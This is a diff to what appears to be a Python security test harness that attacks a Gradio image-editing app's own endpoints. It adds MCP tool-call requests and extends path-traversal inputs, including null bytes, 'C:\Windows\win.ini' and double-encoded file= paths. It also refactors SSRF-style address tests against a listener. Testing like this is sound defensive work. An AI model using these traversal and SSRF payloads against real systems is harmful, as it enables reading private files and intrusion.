@@ -59,6 +59,15 @@ class Attack:
         if started is not None and started.status_code == 200:
             self._request(kind, "GET", f"/gradio_api/call/{endpoint}/{started.json()['event_id']}")
 
+    def tool(self, kind: str, arguments: dict) -> None:
+        """One attack of an agent, in a message of its own and as one of a session."""
+        self.done[kind] += 1
+        tool = {"name": "edit", "arguments": arguments}
+        message = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": tool}
+        accept = {"accept": "application/json, text/event-stream"}
+        for session in ({}, {"mcp-protocol-version": "2025-06-18"}):
+            self._request(kind, "POST", "/gradio_api/mcp/", json=message, headers=accept | session)
+
     def upload(self, kind: str, name: str, content: bytes) -> None:
         """One attack of a file: its upload, and a call that uses it."""
         answer = self._request(kind, "POST", "/gradio_api/upload", files={"files": (name, content)})
@@ -139,6 +148,10 @@ def attack_with_paths(attack: Attack, outside: Path, good: str) -> None:
               str(Path(good).parent), str(Path(good).parent.parent), "\0", "C:\\Windows\\win.ini"]  # fmt: skip
     for path in wanted:
         attack.call("paths", "edit", [FILE | {"path": path}, "happy", 1.0, "largest"])
+        address = f"{attack.app.url}/gradio_api/file={path}"
+        attack.call("paths", "edit", [address])
+        for picture in (path, address):
+            attack.tool("paths", {"picture": picture})
         for form in (path, quote(path, safe=""), quote(quote(path, safe=""), safe="")):
             attack.send("paths", "GET", f"/gradio_api/file={form}")
     for route in ("static/", "assets/", "svelte/", "theme.css/", "custom_component/x/component/", "deep_link/"):
@@ -155,10 +168,8 @@ def attack_with_addresses(attack: Attack, listener: str, good: str) -> None:
         attack.call("addresses", "edit", [FILE | {"path": form}, "happy", 1.0, "largest"])
         attack.call("addresses", "find_faces", [FILE | {"path": good, "url": form}])
         attack.call("addresses", "find_faces", [FILE | {"path": None, "url": form}])
-        tool = {"name": "edit", "arguments": {"picture": form, "expression": "happy"}}
-        message = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": tool}
-        accept = {"accept": "application/json, text/event-stream"}
-        attack.send("addresses", "POST", "/gradio_api/mcp/", json=message, headers=accept)
+        attack.call("addresses", "edit", [form])
+        attack.tool("addresses", {"picture": form, "expression": "happy"})
         for route in ("file=", "proxy=", "stream/", "reverse_proxy/"):
             attack.send("addresses", "GET", f"/gradio_api/{route}{quote(form)}")
 
